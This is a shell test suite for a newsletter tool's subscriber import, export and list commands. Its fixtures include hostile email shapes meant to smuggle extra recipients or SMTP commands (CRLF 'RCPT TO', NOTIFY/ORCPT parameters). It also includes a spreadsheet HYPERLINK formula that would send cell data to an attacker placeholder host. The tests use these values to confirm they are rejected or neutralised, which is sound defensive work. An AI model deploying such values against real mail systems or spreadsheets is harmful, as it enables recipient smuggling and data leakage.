#!/bin/bash
# newsbeat subscribers add/remove/import/export/list/count and lists, driving
# the real binary: unsubscribes stick through add and import, --resubscribe
# lifts them, rejected rows are reported with line numbers (the hostile
# address shapes of issue 3), BOM + CRLF files, export -> import changes
# nothing, --dry-run changes nothing, attributes reach the templates.
. "$(dirname "$0")/lib.sh"
NB=$NEWSBEAT
make_newsletter nl
cd nl

# $(dump): every member of every list with status, name and attributes, via export + list.
dump() {
	"$NB" lists
	for l in members board; do
		"$NB" subscribers list --list $l
		"$NB" subscribers export --list $l
	done
}

# --help everywhere
check "subscribers --help" sh -c '"$0" subscribers --help | grep -q "subscribers import FILE.csv"' "$NB"
for a in add remove import export list count; do
	check "subscribers $a --help exits 0 with usage" sh -c '"$0" subscribers "$1" --help | grep -q "^usage:"' "$NB" "$a"
done
check "lists --help" sh -c '"$0" lists --help | grep -q "^usage: newsbeat lists"' "$NB"
check_exit 2 "no action: usage error" "$NB" subscribers
check_exit 2 "unknown action: usage error" "$NB" subscribers frobnicate
check_exit 2 "unknown option: usage error" "$NB" subscribers list --frob
check_exit 2 "add without an address: usage error" "$NB" subscribers add
check_exit 2 "list with an unknown status: usage error" "$NB" subscribers list --status gone

# add / list / count / remove
check "add with name and attributes" "$NB" subscribers add Amara@Example.ORG --name "Amara Okafor" --attr country=Nigeria --attr member_type=full
check "add a non-ASCII name" "$NB" subscribers add zoe@müller.example --name "Zoë Müller"
check "the IDN domain is stored as punycode" sh -c '"$0" subscribers list | grep -q "^zoe@xn--mller-kva.example	active	Zoë Müller$"' "$NB"
check "the domain is lower-cased" sh -c '"$0" subscribers list | grep -q "^Amara@example.org	active	Amara Okafor$"' "$NB"
check "the same address with the domain in other case is the same subscriber" \
	sh -c '"$0" subscribers add Amara@EXAMPLE.org | grep -q "already on"' "$NB"
check "count is 2" test "$("$NB" subscribers count)" = 2
check_exit 2 "add of a hostile address is refused" "$NB" subscribers add 'a@malicious.org@important.com'
check "the error names the address and the reason" sh -c '"$0" subscribers add "user@good-corp.com(x)evil.com" 2>&1 | grep -q "user@good-corp.com(x)evil.com.*not a usable address"' "$NB"
check_exit 2 "add with an invalid attribute key" "$NB" subscribers add x@example.org --attr 'Bad Key=1'
check_exit 2 "add with --attr without '='" "$NB" subscribers add x@example.org --attr novalue
check "count still 2" test "$("$NB" subscribers count)" = 2
check "add to another list" "$NB" subscribers add amara@example.org --list board
check "count --list board is 1" test "$("$NB" subscribers count --list board)" = 1
check "remove" sh -c '"$0" subscribers remove Amara@example.org | grep -q "unsubscribed Amara@example.org"' "$NB"
check "count is 1 after remove" test "$("$NB" subscribers count)" = 1
check "remove keeps the history: listed as unsubscribed" \
	sh -c '"$0" subscribers list --status unsubscribed | grep -q "^Amara@example.org	unsubscribed	Amara Okafor$"' "$NB"
check "remove on one list leaves the other" test "$("$NB" subscribers count --list board)" = 1
check "remove of a non-member says so, exit 0" sh -c '"$0" subscribers remove nobody@example.org | grep -q "nothing changed"' "$NB"
check "add does not reactivate an unsubscribe" sh -c '"$0" subscribers add Amara@example.org | grep -q "^skipped Amara@example.org: unsubscribed"' "$NB"
check "still unsubscribed" test "$("$NB" subscribers count)" = 1
check "add --resubscribe does" sh -c '"$0" subscribers add Amara@example.org --resubscribe | grep -q "^updated"' "$NB"
check "active again: count 2" test "$("$NB" subscribers count)" = 2
check "attributes kept through unsubscribe and resubscribe" \
	sh -c '"$0" subscribers export | grep -q "^Amara@example.org,Amara Okafor,Nigeria,full"' "$NB"

# lists: counts by status
"$NB" subscribers add gone@example.org >/dev/null
"$NB" subscribers remove gone@example.org >/dev/null
check "lists shows counts by status" sh -c '"$0" lists | grep -Eq "^members +2 +0 +1 +0 +0 +0$"' "$NB"
check "lists shows the second list" sh -c '"$0" lists | grep -Eq "^board +1 +0 +0 +0 +0 +0$"' "$NB"

# the default list comes from the config
printf '[newsletter]\ndefault_list = alumni\n' > config.ini
check "add goes to the configured default list" "$NB" subscribers add alum@example.org
check "count on the default list" test "$("$NB" subscribers count)" = 1
check "the list is 'alumni'" sh -c '"$0" lists | grep -Eq "^alumni +1 "' "$NB"
rm config.ini
check "members untouched" test "$("$NB" subscribers count)" = 2

# import
cp "$SRCDIR/data/subscribers.csv" members.csv
rows=$(($(grep -c . members.csv) - 1))
check "import the sample member list" sh -c '"$0" subscribers import members.csv > out.txt'  "$NB"
check "import report counts" grep -q "into 'members': $rows added, 0 updated, 0 unchanged, 0 skipped (unsubscribed, bounced, complained or suppressed), 0 rejected" out.txt
n=$("$NB" subscribers count)
check "re-import: all unchanged" sh -c '"$0" subscribers import members.csv | grep -q ": 0 added, 0 updated, $1 unchanged, 0 skipped"' "$NB" "$rows"
victim=$(sed -n 2p members.csv | cut -d, -f1)
"$NB" subscribers remove "$victim" >/dev/null
check "remove then re-import: counted as skipped" sh -c '"$0" subscribers import members.csv | grep -q ": 0 added, 0 updated, $(($1 - 1)) unchanged, 1 skipped"' "$NB" "$rows"
check "and still unsubscribed" sh -c '"$0" subscribers list --status unsubscribed | grep -q "^$1	unsubscribed"' "$NB" "$victim"
check "count went down by one" test "$("$NB" subscribers count)" = $((n - 1))
check "import --resubscribe re-activates" sh -c '"$0" subscribers import members.csv --resubscribe | grep -q ": 0 added, 1 updated, $(($1 - 1)) unchanged, 0 skipped"' "$NB" "$rows"
check "count back" test "$("$NB" subscribers count)" = $n

# rejected rows: hostile shapes, each reported with its line number
printf '%s\r\n' 'email,name' \
	'ok1@example.org,Fine One' \
	'a@malicious.org@important.com,Smuggler' \
	'"alice@example.org(<bob@example.com>",Comment' \
	'"""x@gmail.com x""@internal.domain",Quoted' \
	'user@good-corp.com(x)evil.com,Comment2' \
	'"<bob@example.com> NOTIFY=SUCCESS ORCPT=rfc822;spy@evil.example",Notify' \
	'"alice@example.org' 'RCPT TO:<spy@evil.example>",CRLF' \
	'ok2@example.org,"Fine, Two"' \
	'not-an-address,Nobody' \
	'ok3@example.org,Three,extra' \
	'ok4@example.org,"Name with' 'a line break"' \
	'ok5@example.org,Five' > hostile.csv
check_exit 1 "an import with rejected rows exits 1" sh -c '"$0" subscribers import hostile.csv > out.txt' "$NB"
check "counts: 3 added, 9 rejected" grep -q ": 3 added, 0 updated, 0 unchanged, 0 skipped (unsubscribed, bounced, complained or suppressed), 9 rejected" out.txt
check "line 3: two @" grep -qF "hostile.csv:3: rejected 'a@malicious.org@important.com': " out.txt
check "line 4: comment and angle bracket" grep -qF "hostile.csv:4: rejected 'alice@example.org(<bob@example.com>': " out.txt
check "line 5: quoted @ and space" grep -qF "hostile.csv:5: rejected '\"x@gmail.com x\"@internal.domain': " out.txt
check "line 6: comment in the domain" grep -qF "hostile.csv:6: rejected 'user@good-corp.com(x)evil.com': " out.txt
check "line 7: SMTP parameters" grep -qF "hostile.csv:7: rejected '<bob@example.com> NOTIFY=SUCCESS" out.txt
check "line 8: CRLF inside, shown escaped" grep -qF "hostile.csv:8: rejected 'alice@example.org\\r\\nRCPT TO:<spy@evil.example>': " out.txt
check "line 11 (after a two-line record): not an address" grep -qF "hostile.csv:11: rejected 'not-an-address': " out.txt
check "line 12: too many fields" grep -qF "hostile.csv:12: rejected 'ok3@example.org': more fields than the header row" out.txt
check "line 13: a line break in the name" grep -qF "hostile.csv:13: rejected 'ok4@example.org': the name has a line break" out.txt
check "the report has one line per rejected row" test "$(grep -c ': rejected ' out.txt)" -eq 9
check "nothing hostile got in" sh -c '! "$0" subscribers list | grep -Eqi "evil|malicious|internal|bob@"' "$NB"
check "the good rows got in" sh -c '"$0" subscribers list | grep -c "^ok[125]@example.org	active" | grep -qx 3' "$NB"

# BOM + CRLF, header in other case and order, attribute column names normalized
printf '\357\273\277Name,EMAIL,Member Type\r\n"Kierkegaard-Olsen, Søren",soren@example.com,full\r\n' > bom.csv
check "BOM + CRLF file imports" sh -c '"$0" subscribers import bom.csv --list board | grep -q ": 1 added, 0 updated, 0 unchanged, 0 skipped (unsubscribed, bounced, complained or suppressed), 0 rejected"' "$NB"
# (board also holds Amara, added to it above as amara@example.org: the
# same subscriber as Amara@example.org, so with her country.)
check "the name, attribute and address came through" sh -c '"$0" subscribers export --list board | grep -q "^soren@example.com,\"Kierkegaard-Olsen, Søren\",,full$(printf "\r")$"' "$NB"
check "the header names the attribute member_type" sh -c '"$0" subscribers export --list board | head -1 | grep -q "^email,name,country,member_type"' "$NB"
check "amara@example.org on board is Amara@example.org" sh -c '"$0" subscribers export --list board | grep -q "^Amara@example.org,Amara Okafor,Nigeria,full$(printf "\r")$"' "$NB"

# input errors: exit 2, message names the file
printf 'name,country\r\nAlice,CH\r\n' > noemail.csv
"$NB" subscribers import noemail.csv >out.txt 2>err.txt; rc=$?
check "missing email column: exit 2" test $rc -eq 2
check "the message names the file and line" grep -q "noemail.csv:1: no 'email' column" err.txt
: > empty.csv
check_exit 2 "empty file: exit 2" "$NB" subscribers import empty.csv
check "empty file: the message names the file" sh -c '"$0" subscribers import empty.csv 2>&1 | grep -q "empty.csv: the file is empty"' "$NB"
printf 'email\r\n' > header.csv
check "header only: nothing to do, exit 0" sh -c '"$0" subscribers import header.csv | grep -q ": 0 added, 0 updated, 0 unchanged, 0 skipped"' "$NB"
check_exit 2 "missing file: exit 2" "$NB" subscribers import nosuch.csv
printf 'email,name\r\nq1@example.org,Q\r\nq2@example.org,"unterminated\r\n' > broken.csv
before=$(dump)
"$NB" subscribers import broken.csv >out.txt 2>err.txt; rc=$?
check "malformed CSV: exit 2" test $rc -eq 2
check "malformed CSV: file and line named" grep -q "broken.csv:3: malformed CSV" err.txt
check "malformed CSV: nothing imported (one transaction)" test "$before" = "$(dump)"
printf 'email,Bad Column!\r\nq1@example.org,x\r\n' > badcol.csv
check_exit 2 "a column that cannot be an attribute: exit 2" "$NB" subscribers import badcol.csv

# --dry-run changes nothing
"$NB" subscribers remove "$victim" >/dev/null
printf 'email,name,country\r\nnew1@example.org,New,CH\r\nAmara@example.org,Amara O.,NG\r\n%s,Back,\r\n' "$victim" > dry.csv
before=$(dump)
check "--dry-run reports what would happen" sh -c '"$0" subscribers import dry.csv --dry-run | grep -q "^dry run, nothing saved: dry.csv into .members.: 1 added, 1 updated, 0 unchanged, 1 skipped"' "$NB"
check "--dry-run changed nothing" test "$before" = "$(dump)"
"$NB" subscribers import dry.csv --dry-run --resubscribe >/dev/null
check "--dry-run --resubscribe changed nothing" test "$before" = "$(dump)"

# export -> import changes nothing, attributes and non-ASCII names included
"$NB" subscribers add li@example.org --name "李明" --attr country="中国" --attr note='says "hi", twice' >/dev/null
"$NB" subscribers add multi@example.org --name "Line, Comma \"Quote\"" --attr city=" padded " >/dev/null
# ... and values a spreadsheet would run as formulas (the web form takes
# any name): exported behind an apostrophe, imported without it.
"$NB" subscribers add =eq@example.org --name '=HYPERLINK("https://evil.example/?"&A3,"Click")' \
	--attr phone='+33 1 23' --attr note="'=x" >/dev/null
"$NB" subscribers add +plus@example.org --name '@Ann' --attr note='-1' --attr city="'quoted'" >/dev/null
check "export -o" "$NB" subscribers export -o export.csv
check "export to stdout is the same" sh -c '"$0" subscribers export | cmp -s - export.csv' "$NB"
check "export -o writes a private file (0600: addresses are personal data)" sh -c 'stat -c %a export.csv | grep -qx 600'
check_fails "export -o into a missing directory fails" "$NB" subscribers export -o no-such-dir/x.csv 2>exp.err
check "  saying where it could not write" grep -q "cannot create a temporary file beside 'no-such-dir/x.csv'" exp.err
check "  nothing left behind" test ! -e no-such-dir
check_fails "  and no temporary file beside export.csv from earlier runs" sh -c 'ls export.csv.tmp.* 2>/dev/null | grep -q .'
check "export has every recipient plus a header" test $(($(grep -c '@' export.csv) )) -eq "$("$NB" subscribers count)"
before=$(dump)
check "import of the export: all unchanged" sh -c '"$0" subscribers import export.csv | grep -Eq ": 0 added, 0 updated, [0-9]+ unchanged, 0 skipped \(unsubscribed, bounced, complained or suppressed\), 0 rejected"' "$NB"
check "import of the export changed nothing" test "$before" = "$(dump)"
mkdir -p other && (cd other && "$NB" subscribers import ../export.csv >/dev/null && "$NB" subscribers export -o ../export2.csv)
check "export -> import into a new database -> export is identical" cmp export.csv export2.csv
check "a formula is exported behind an apostrophe" grep -q \
	"^'=eq@example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\",.*'+33 1 23" export.csv
check "  so is '=x, with one more" grep -q "^'=eq@example.org,.*,''=x," export.csv
check "  and no field of the export starts a formula" sh -c \
	"! grep -Eq '(^|,)\"?[-=+@]' export.csv"
check "  while 'quoted' is written as it is" grep -q "^'+plus@example.org,'@Ann,'quoted',.*'-1" export.csv
check "non-ASCII and quoted values survived" grep -q '^li@example.org,李明,.*,中国,.*,"says ""hi"", twice"' export.csv

# attributes reach the templates as {{subscriber.<key>}} (send to the Maildir outbox)
mkdir -p att && cd att
make_newsletter .
# A large file crosses from the reading thread to the storing one in
# batches: every good row stored, in file order; every bad one reported,
# in file order, with its line.
$PY - <<'PY'
with open("big.csv", "w", newline="") as f:
    f.write("email,name,city\r\n")
    for i in range(3000):
        email = "bad%d@@example.org" % i if i % 500 == 7 else "m%04d@example.org" % i
        f.write("%s,Member %d,City %d\r\n" % (email, i, i % 7))
PY
"$NB" subscribers import big.csv --list big > big.out
check "3,000 rows: 2,994 added, 6 rejected" grep -q "2994 added, 0 updated, 0 unchanged, 0 skipped.*6 rejected" big.out
check "  the rejects reported in file order with their lines" \
	sh -c 'grep -o "^big.csv:[0-9]*" big.out | tr "\n" " " | grep -qx "big.csv:9 big.csv:509 big.csv:1009 big.csv:1509 big.csv:2009 big.csv:2509 "'
check "  stored in file order, with name and attribute" \
	sh -c '"$0" subscribers export --list big | tail -n +2 | head -3 | tr -d "\r" | tr "\n" " " | grep -qx "m0000@example.org,Member 0,City 0 m0001@example.org,Member 1,City 1 m0002@example.org,Member 2,City 2 "' "$NB"
check "  and the last one" sh -c '"$0" subscribers export --list big | tail -1 | grep -q "^m2999@example.org,Member 2999,City 3"' "$NB"
check "  2,994 members" sh -c '"$0" subscribers count --list big | grep -q 2994' "$NB"

rm -f issues/*.md
cat > issues/issue-1.md <<'EOF'
---
title: "Attributes"
issue: 1
date: 2026-11-27
---
Hello {{subscriber.name}} from {{subscriber.country}} ({{subscriber.member_type}}).
EOF
printf 'email,name,country,member_type\r\nzoe@example.org,Zoë Müller,Schweiz,early-career\r\n' > one.csv
"$NB" subscribers import one.csv >/dev/null
check "send to the outbox" "$NB" send 1 --yes
f=$(ls outbox/new/* 2>/dev/null | head -1)
if [ -n "$f" ] && $PY "$SRCDIR/tests/tools/eml_check.py" "$f" --text got.txt --html got.html >/dev/null; then
	check "the HTML part shows the attributes" grep -q "Hello Zoë Müller from Schweiz (early-career)." got.html
	check "the text part shows them (wrapped)" sh -c 'tr "\n" " " < got.txt | grep -q "Hello Zoë Müller from Schweiz (early-career)."'
else
	notok "the outbox message parses"
fi
done_testing
